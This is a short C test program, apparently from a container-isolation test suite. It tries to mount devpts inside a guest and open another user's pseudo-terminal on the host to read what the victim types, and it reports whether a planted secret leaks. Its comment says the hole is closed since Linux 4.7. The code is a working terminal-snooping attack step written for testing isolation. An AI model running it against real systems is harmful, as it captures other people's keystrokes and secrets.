// SPDX-License-Identifier: GPL-2.0-only
// A devpts that the attacker mounts is that of the host, with the terminals of
// all in it, as it was before each had an instance of its own.
// Modes: guest bare
// (open: since Linux 4.7 there is no such mount)
// Victims: host other
#include "device/device.h"

int main(void)
{
	char name[64], buf[64] = "";
	const char *number = strrchr(fact("PTS"), '/');
	int tty;

	NEED(!mkdir(MOUNTPOINT, 0700) || errno == EEXIST);
	if (mount("pts", MOUNTPOINT, "devpts", 0, NULL))
		refused_mount("mount");
	snprintf(name, sizeof(name), MOUNTPOINT "%s", number);
	tty = open(name, O_RDWR | O_NOCTTY | O_NONBLOCK);
	if (tty < 0)
		refused_mount("the victim's terminal");
	if (read(tty, buf, sizeof(buf) - 1) > 0 && strstr(buf, fact("SECRET")))
		worked_mount("what is typed at the victim's terminal");
	refused_mount("read");
}
